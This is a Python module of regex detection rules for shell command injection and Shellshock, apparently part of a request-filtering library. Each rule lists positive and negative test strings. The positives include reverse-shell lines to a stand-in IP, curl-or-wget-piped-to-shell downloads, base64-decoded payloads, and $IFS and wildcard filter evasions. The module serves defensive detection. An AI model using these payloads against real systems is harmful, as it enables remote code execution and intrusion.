r"""Shell commands (CWE-78) and shellshock (CVE-2014-6271): those of Unix.

A separator needs a command, and a command that is also a word needs an argument. Developers write commands into
sentences as well, so most signs are anchored: at most one word stands before the separator, as the host or the file
name that the application asked for.
Must never hold a row of somebody else's collection; every example was written for its rule.
"""

from __future__ import annotations

from typing import Final

from asgi_guard.inspection.rule import VALUES, Rule

_FIELDS: Final = ("query", "body", "cookie", "header", "referer", "name", "filename", "path")
FIRST: Final = r"^(?:[^\s#]\S{0,40})?\s{0,4}"
"""What the application asked for."""

_BREAK: Final = r"(?:^(?:[^\s#]\S{0,40})?\s{0,4}(?:[;&|\n\r]|\$\(|[<>]\()|^\S{0,40}`)[\s;&|(@{]{0,6}"
FOLDER: Final = r"(?:sudo )?(?:/?(?:usr/)?(?:local/)?s?bin/|\./)?"
"""What may stand before a command."""

LAUNCHED: Final = (
    r"^(?:(?:sudo|time|nohup|env|exec|command|nice|timeout \d{1,4}|xargs|watch|setsid|busybox)\s{1,4})?" + FOLDER
)
"""A command as a whole value, or what another one starts."""

_ARGUMENT: Final = (
    r"[\s<]{1,4}(?:--\s{1,4})?(?:--?[a-z0-9]|[~.]{0,2}/|\*|\$[\w({]|@|\d{1,3}\.\d{1,3}\.|(?:ht|f)tps?:|[a-z]:[\\/]"
    r"|\+[rwx])"
)
_OF_A_NAME: Final = (
    r"(?:cat|tac|ls|rm|cp|mv|nc|ncat|netcat|sh|bash|zsh|ksh|dash|ping6?|wget|curl|lwp-request|fetch|chmod|chown|tail|head"
    r"|nl|grep|awk|sed|perl|python[23]?|ruby|php\d?|node|lua|gcc|tar|dd|nslookup|dig|telnet|ftp|tftp|scp|socat|mkdir|tee"
    r"|xargs|nohup|base64|xxd|od|strings|openssl|traceroute|dpkg|rpm|stat|vim?|nano|mysql|psql|sqlite3)"
    r"[\s<]{1,4}(?:--\s{1,4})?[\w-]{1,30}\.[a-z]{2,4}(?:$|[\s;|&/])"
)
"""Commands of a file or a host by its name; those that are words stand before one in notes, too."""

_NUMBERED: Final = r"(?:sleep|kill|killall|timeout|chmod|ping6?|id)[\s<]{1,4}\d{1,4}(?:$|[\s;|&`)])"
"""Commands of a number, which behind most others is that of cups to make or of minutes of time."""

RULES: Final[tuple[Rule, ...]] = (
    Rule(
        id="AG-RCE-001",
        attack="rce",
        score=5,
        level=1,
        pattern=_BREAK
        + FOLDER
        + r"(?:"
        + _NUMBERED
        + "|"
        + _OF_A_NAME
        + r"|(?:cat|tac|ls|ps|id|rm|cp|mv|nc|ncat|netcat|sh|bash|zsh|ksh|dash|ping6?|wget|curl|lwp-request|fetch"
        r"|chmod|chown|echo|printf"
        r"|tail|head|more|less|nl|grep|awk|sed|cut|sort|find|sleep|perl|python[23]?|ruby|php\d?|node|lua|gcc|tar|dd"
        r"|kill|killall"
        r"|nslookup|dig|host|telnet|ftp|tftp|ssh|scp|socat|touch|mkdir|tee|xargs|nohup|base64|xxd|od|strings"
        r"|openssl|mount|df|du"
        r"|ifconfig|ip|route|arp|netstat|traceroute|crontab|systemctl|service|su|passwd|adduser|useradd|usermod|apt"
        r"|apt-get|yum"
        r"|dpkg|rpm|which|whereis|file|stat|env|export|set|vi|vim|nano|ed|ex|make|git|docker|kubectl|mysql|psql"
        r"|sqlite3|cd|time|timeout"
        r"|iwr|c89|c99|cc)" + _ARGUMENT + r")",
        needs=(" ", "<"),
        why="A command with its argument after the separator that ends the application's own.",
        positives=(
            "; cat /etc/hosts",
            "x|c'a't /etc/hosts",
            "$(curl -s 198.51.100.7)",
            "127.0.0.1 && ping -c 4 198.51.100.7",
            "a.txt;ls${IFS}-la",
            "`wget http://x.example/a`",
            "host\ncat /tmp/x",
            "|{ls,-la}",
            "x; cat -- /srv/a",
            "1||sleep 10",
        ),
        negatives=(
            "cats; dogs",
            "salt & pepper",
            "one | two",
            "I wrote this; cat /proc/cpuinfo shows it",
            "run `ls -la` there",
            "head & shoulders",
            "R&D host a party",
            "#!/bin/sh\nset -e",
            "Tea\nmake 2 cups",
            "agenda; time 10 minutes",
            "Mail\nhost mail.example.com\nport 25",
            "plan; more details.txt",
        ),
        views=("shell",),
        places=(*_FIELDS, "user_agent"),
    ),
    Rule(
        id="AG-RCE-002",
        attack="rce",
        score=5,
        level=1,
        pattern=r"^\(\)\s{0,4}\{|\(\)\s{0,4}\{\s{0,4}[\w:]{0,8}\s{0,2};\s{0,4}\}\s{0,4};"
        r"|\(\)\s{0,4}\{\s{0,4}_;\s{0,2}\}\s?>_\["
        r"|[\w:]\(\)\s{0,4}\{\s{0,4}[\w:]{1,20}\s{0,2}[|&]\s{0,2}[\w:]{1,20}\s{0,2}[&;]\s{0,4}\}",
        needs=("{",),
        why="A function in an environment variable, which old shells run on; or one that calls itself for ever.",
        positives=("() { :;}; /bin/ls", "x () { a;};echo b", "() { _; } >_[$($())] { id; }", "a(){ a|a& };a"),
        negatives=("f(x) { return }", "() => {}", "function() { return 1; }", "function(){a;b}"),
        places=(*VALUES, "user_agent"),
    ),
    Rule(
        id="AG-RCE-003",
        attack="rce",
        score=5,
        level=1,
        pattern=r"(?:[;&\n\r]|\|\|?|\$\(|[^\s`(\[>*_:,-]`)[\s;&|(@{]{0,6}"
        + FOLDER
        + r"(?:whoami|ifconfig|ipconfig|nslookup|uname|systeminfo|tasklist|netstat|lsb_release|getent|lsof|printenv"
        r"|htop)"
        r"(?:\.exe)?\s{0,3}(?:$|[-/;&`)<>#,}'\"]|\|(?:$|[|\w]))",
        needs=(
            "whoami",
            "ifconfig",
            "ipconfig",
            "nslookup",
            "uname",
            "systeminfo",
            "tasklist",
            "netstat",
            "lsb_release",
            "getent",
            "lsof",
            "printenv",
            "htop",
        ),
        why="A command that is no word, after a separator: attackers try these first.",
        positives=("x;whoami", "a & ipconfig /all", "$(who\\ami)", "name|uname -a", "a`wh''oami`"),
        negatives=("run `uname -a` first", "`whoami`", "a&uname=1", "who am i; me", "| uname | value |"),
        views=("shell",),
        places=(*VALUES, "user_agent"),
    ),
    Rule(
        id="AG-RCE-004",
        attack="rce",
        score=5,
        level=1,
        pattern=r"^(?:(?:[^\s#]\S{0,40})?(?:`|\s{0,4}(?:[\n\r]|&&?|\|\||\$\())|(?:(?:[^\s#]\S{0,40})?[^\sa-z#])?\s{0,4};)"
        r"[\s;&|(@{]{0,6}" + FOLDER + r"(?:id|ls|ps|pwd|dir|env|df|uptime|hostname|who)\s{0,2}(?:$|[;|`)#}]|&&|& ?$)"
        r"|^\w{1,40};\s{0,2}(?:id|ls|ps|pwd|dir)[;|]"
        r"|^(?:[^\s#]\S{0,40})?(?:\s{0,4}(?:^|[;&|`)'\"] ?|\w\))\|{1,2}\s{0,2}"
        + FOLDER
        + r"(?:id|ls|ps|pwd|dir|nid)\s{0,2}(?:$|[;`)#}&]|\|$))",
        needs=(";", "\n", "\r", "&", "|", "$(", "`"),
        why="A short command alone between separators.",
        positives=("x;ps;", "7;ls", "a;ls;", "|id", "$(pwd)", "x&&dir", "a)|ps;", "shop`id`", "x\nid"),
        negatives=(
            "name|id|type",
            "shop|id",
            "a&id=1",
            "|id|name|",
            "name;id",
            "id; name",
            "1&w=2",
            "rename `id` to key",
            "use `env` here",
            "we met; who?",
            "margin:0;set",
        ),
        views=("shell",),
        places=("query", "body", "cookie", "header", "referer", "filename", "path"),
    ),
    Rule(
        id="AG-RCE-005",
        attack="rce",
        score=5,
        level=1,
        pattern=r"^(?:(?:\S{0,40}`|\S{0,40}\s{0,4}[;&|\n\r(])[;&|\s(`]{0,6})?/(?:usr/(?:local/)?)?s?bin/(?:env )?"
        r"(?:\w{1,5}sh|sh|cat|id|ls|ps|nc|uname|whoami|wget|curl|perl"
        r"|python\d?|ruby|php|echo|sleep|ping|unxz|\w{1,16} (?:-|/))",
        needs=("bin/",),
        why="A command by its path.",
        positives=("x;/usr/bin/cat x", "/bin/sh -c id", "x|/bin/bash", "`/bin/cat x`"),
        negatives=("#!/bin/sh", "it runs /bin/sh -c", "use `/bin/sh` here", "the /usr/bin/id tool", "robin/cat"),
        views=("shell",),
        places=("query", "body", "cookie", "header", "referer", "filename", "path"),
    ),
    Rule(
        id="AG-RCE-006",
        attack="rce",
        score=5,
        level=1,
        pattern=LAUNCHED + r"(?:(?:cat|tac|nl|head|tail|more|less|strings|od|xxd|ls)"
        r"(?:\s{1,4}-[a-z]{1,6})?(?:\s{1,4}(?:[~.]{0,2}/|\S{0,4}\[)|\s{0,2}<\s{0,2}\S)"
        r"|(?:wget|curl|fetch|lynx|lwp-download)\s{1,4}(?:-{1,2}\w[\w-]{0,16}\s{0,2}\S{0,40}\s{0,2})?(?:(?:ht|f)tps?://"
        r"|\d{1,3}\.\d|\$|[\w-]{1,30}\.[\w.-]{2,30}(?:/\S{0,60})?$)"
        r"|ping6?\s{1,4}-[a-z]\s{0,2}\d|uname\s{1,4}-[a-z]|rm\s{1,4}-[rf]{1,2}\s{1,4}[~/*]"
        r"|chmod\s{1,4}(?:[0-7]{3,4}|[ugoa]?\+[rwxs])\s{1,4}\S|(?:ifconfig|systeminfo|whoami)\s{0,2}(?:$|[|&;]))"
        r"\S{0,60}(?:\s{1,2}[^\sa-z]\S{0,40}){0,5}(?:\s{0,2}|\s{0,2}\|\s{0,2}\S{1,16}(?:\s{1,2}-\S{0,8}){0,2}\s{0,2})$|"
        + LAUNCHED
        + r"(?:(?:ba|z|k|da|c)?sh\s{1,4}-[ci]\b|python[23]?\s{1,4}-c\s{1,4}(?:import|exec|eval|__)"
        r"|cd\s{1,4}[/.~]\S{0,40}\s?[;&|])\S{0,60}(?:\s{1,2}\S{1,40}){0,5}\s{0,2}$",
        needs=(" ", "<", "whoami", "ifconfig", "systeminfo"),
        why="A command on what others must not see, or one from elsewhere, as a whole value.",
        positives=(
            "cat /etc/hosts",
            "wget http://x.example/a.sh",
            "ls -l /home/shop",
            "w'h'oami",
            "bash -c id",
            "ping -c 3 198.51.100.7",
            "nohup whoami\n",
            "time curl x.example",
            "if$@config",
            "cat<a/b",
        ),
        negatives=(
            "cat food",
            "ls is a command",
            "curly hair",
            "less is more",
            "bash and zsh",
            "type c",
            "ping pong -3",
            "ls -la",
            "cat /var/log/shop shows nothing",
            "python -c 'print(1)'",
        ),
        views=("shell",),
        places=("query", "body", "cookie", "header", "referer", "filename", "user_agent"),
    ),
    Rule(
        id="AG-RCE-007",
        attack="rce",
        score=5,
        level=1,
        pattern=r"/dev/(?:tcp|udp)/[\w.${]{1,40}/|\bbash -i\b[^\n]{0,20}(?:>|/dev)|\bmkfifo \S{1,40}\s{0,2};"
        r"|\b(?:nc|ncat|netcat)(?:\.exe|\.traditional)?\s[^\n;|]{0,60}"
        r"-[a-z]{0,4}[ec]\s{0,4}(?:/bin/|cmd|(?:ba)?sh\b|powershell)|\b0<&\d{2,3}-|\bexec \d{1,3}<>/dev"
        r"|pty\.spawn\(|\bsocat\s[^\n]{0,60}exec:",
        needs=(
            *("/dev/", "bash -i", "mkfifo", "0<&", "pty.spawn", "socat", "netcat", "ncat"),
            *("nc ", "nc\t", "nc\n", "nc\r", "nc\f", "nc.exe", "nc.traditional"),
        ),
        why="A shell whose input and output is a connection to the attacker.",
        positives=(
            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
            "nc 198.51.100.7 4444 -e /bin/sh",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f",
            "socat tcp:198.51.100.7:9 exec:sh",
        ),
        negatives=("nc -z host 80", "logs in /dev/null", "sync -e the rest", "mkfifo creates a pipe"),
        places=(*VALUES, "user_agent"),
    ),
    Rule(
        id="AG-RCE-008",
        attack="rce",
        score=5,
        level=1,
        pattern=r"\bbase64 (?:-d|--decode|-di)\b[^|\n]{0,30}\|\s{0,4}(?:sudo )?(?:\w{0,3}sh|python\d?|perl)\b"
        r"|\becho [\w+/=]{8,100}\s{0,2}\|\s{0,2}(?:base64|xxd|rev)\b"
        r"|(?:^|[;&|]|\$\(|(?:^|[^\s(])`)\s{0,4}(?:curl|wget)\s[^|\n]{1,100}\|\s{0,4}(?:sudo )?"
        r"(?:\w{0,3}sh|python\d?|perl|php|ruby)\s{0,2}(?:$|-|[;&|`)#'\"<>\n])",
        needs=("base64 -", "echo", "curl", "wget"),
        why="What was downloaded or encoded is run.",
        positives=(
            "echo aWQ7aWQ7aWQ= | base64 -d | sh",
            "; curl http://x.example/a | bash",
            "x;wget -qO- x.example|sh",
        ),
        negatives=(
            "echo text | grep t",
            "base64 -d file",
            "to install it you may run curl https://x.example | sh",
            "To install: curl https://x.example -s | sh",
            "Install it with `curl -sL https://x.example/i.sh | sh` or by hand",
            "curl -s https://x.example | sh installs it",
        ),
        views=("shell",),
        places=(*VALUES, "user_agent"),
    ),
    Rule(
        id="AG-RCE-009",
        attack="rce",
        score=5,
        level=1,
        pattern=r"[a-z/;|&`]\$\{?ifs\b|\$\{(?:path|pwd|home|shell|ifs|hostname|ps1|user)(?::~?\d|%|#)|\$ifs\$?\d"
        r"|[a-z](?:\$|<)\(\)\s?[a-z]|[a-z]\$\(echo \w{1,20}\)|/[a-z]{0,5}\$[_@*?!-][a-z]{0,3}/|\b(?:cat|sh|bash"
        r"|base64|xxd|nc|rev|tee)\s?<<<",
        needs=("$ifs", "${", "()", "$(echo", "$_", "$@", "$*", "$?", "$!", "$-", "<<<"),
        why="Variables of the shell stand for blanks, slashes and nothing, so that filters see no command.",
        positives=(
            "cat$IFS/x",
            "a;ls${IFS}x",
            "${PATH:0:1}",
            "una$()me",
            "cat${HOME:0:1}x",
            "una$(echo m)e",
            "x /et$_c/pas$_swd",
            "`cat<<<id`",
        ),
        negatives=("set $IFS first", "cost $1 each", "${PATH}", "a$b", "US$100", "f() { g() }"),
    ),
    Rule(
        id="AG-RCE-010",
        attack="rce",
        score=5,
        level=1,
        pattern=r"/(?:\?{2,3}|[bu]\?[nr?]|\?in|bi\?|e\?c|\?tc|et\?|us\?|\[[?\w-]{1,8}\](?:tc|in|sr)"
        r"|[eb]\[[?\w-]{1,8}\][cn]|\?s\?|\?\*|e\*c|b\*n|\*tc)/{1,4}[\w?*\[\]-]{0,16}[?*\[]"
        r"|/s?b\[[?\w-]{1,4}\]n/\w|/etc/(?:[a-z]{0,6}[?*\[][\w?*\]-]{0,10}|\[)",
        needs=("?", "[", "*"),
        why="Wild cards stand for letters, so that filters see neither a command nor a file.",
        positives=("/???/c?t /x", "/b?n/l?", "cat /etc/pas?wd", "/[b-b]in/c[a-b]t", "/e*c/p*d"),
        negatives=("what/??/that", "src/*/test", "https://x.example/a?b/c?d", "/etc/ and more?"),
    ),
    Rule(
        id="AG-RCE-017",
        attack="rce",
        score=5,
        level=1,
        pattern=r"^[\w.,@()-]{1,40}(?:\s[\w.,@()-]{1,40}){1,3}\s{0,4}(?:[;\n]|&{1,2}|\|{1,2}|\$\()\s{0,4}"
        + FOLDER
        + r"(?:cat|tac|nl|head|tail|more|less|od|xxd|strings|ls|rm|cp|mv|wget|curl|fetch|nc|chmod)\s{1,4}"
        r"(?:-{1,2}[\w-]{1,16}\s{1,4}(?:\d{1,9}\s{1,4})?){0,3}(?:~?/[^\s.]|(?:ht|f)tps?://)\S{0,80}\s{0,2}$",
        needs=(" /", " ~/", "://"),
        why="A command on a file or an address ends a value that is a name with blanks in it.",
        positives=(
            "my file.txt; cat /etc/hosts",
            "two words && wget http://x.example/a",
            "a b c | tail -n 3 /etc/group",
        ),
        negatives=("I wrote this; cat /proc/cpuinfo shows it", "one two; cats /x", "see it here; ls /tmp and more"),
        views=("shell",),
        places=_FIELDS,
    ),
    Rule(
        id="AG-RCE-013",
        attack="rce",
        score=5,
        level=1,
        pattern=r"[\r\n]{1,2}\s{0,2}(?:(?:ehlo|helo)\s\S|rcpt to:|mail from:|vrfy\s\S|expn\s\S|auth (?:login"
        r"|plain)\b|retr \d|uidl \d|[a-z]\d{1,4} (?:append|fetch|login|select|search|store|copy|examine|status)\s)",
        needs=(
            "ehlo",
            "helo",
            "rcpt",
            "mail",
            "vrfy",
            "expn",
            "auth",
            "retr",
            "uidl",
            "append",
            "fetch",
            "login",
            "select",
            "search",
            "store",
            "copy",
            "examine",
            "status",
        ),
        why="A command for the mail server behind the application, on a line of its own.",
        positives=("x\r\nRCPT TO:<a@x.example>", "a\nEHLO x.example", "b\r\nA001 APPEND inbox"),
        negatives=("said\nhello there", "first\nmail from a friend", "please retr 12"),
        places=("query", "body", "cookie", "header"),
    ),
    Rule(
        id="AG-RCE-014",
        attack="rce",
        score=5,
        level=1,
        pattern=r"^alias\s{1,4}(?:[-+]\w\s{1,4})?\w{1,20}=\S|;\s{0,4}alias\s{1,4}\w{1,20}=|\bld_preload="
        r"|\b(?:bash_env|bash_func_\w{1,20}(?:%%|\(\)))=?|\btrap\s[^\n]{1,40}\s(?:debug|exit|err)\b",
        needs=("alias", "ld_preload=", "bash_env", "bash_func_", "trap"),
        why="Names and variables that make the shell run something else.",
        positives=("alias a=id", "x;alias ls=sh", "LD_PRELOAD=./x.so", "BASH_FUNC_a%%"),
        negatives=("an alias for it", "trap the error", "alias name", "the alias a=b"),
    ),
    Rule(
        id="AG-RCE-015",
        attack="rce",
        score=5,
        level=1,
        pattern=r"^\S{0,20}\\[nr]\s{0,2}(?:/(?:usr/)?bin/\w|(?:id|ls|cat|echo|whoami|uname|ps|pwd|wget|curl|sleep"
        r"|ping)(?:$|[\\;|&\s]))"
        r"|^[^\w{]{0,3}\{,[a-z$'\"]{1,20}|^\W{0,4}[a-z]\w{0,16}=\$?['\"]?[^;&\s]{1,60}(?:;"
        r"|&&)\s?\$\{?[a-z]\w{0,16}\}?\s{0,2}(?:$|[;|&])",
        needs=("\\n", "\\r", "{,", "=$", ";$", "&$", "; $", "& $"),
        why="A line break as two characters, a list with an empty first item, a variable that holds the command.",
        positives=("x\\nid;", "x\\n/usr/bin/who\\n", "{,whoami}", "x=id;$x", "CMD=$'id';$CMD"),
        negatives=("a\\nb", "file{,.bak}", "a=b;c=d", "x=1;$(y)"),
    ),
)
